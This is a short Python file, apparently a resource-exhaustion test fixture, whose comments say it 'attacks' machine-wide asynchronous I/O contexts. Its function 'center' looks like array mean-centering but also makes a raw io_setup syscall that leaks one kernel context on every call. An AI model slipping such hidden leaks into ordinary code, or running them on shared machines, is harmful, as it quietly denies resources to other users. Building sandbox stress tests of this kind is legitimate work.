# RTE exception
# attacks: the contexts of asynchronous I/O, of which the whole machine has so many
# needs: processes
import ctypes
import os

IO_SETUP = {"x86_64": 206, "aarch64": 0}[os.uname().machine]


def center(x):
    context = ctypes.c_ulong(0)
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(ctypes.c_long(IO_SETUP), ctypes.c_uint(1), ctypes.byref(context)) != 0:
        raise OSError(ctypes.get_errno(), "io_setup")
    return x - x.mean(axis=-1, keepdims=True)
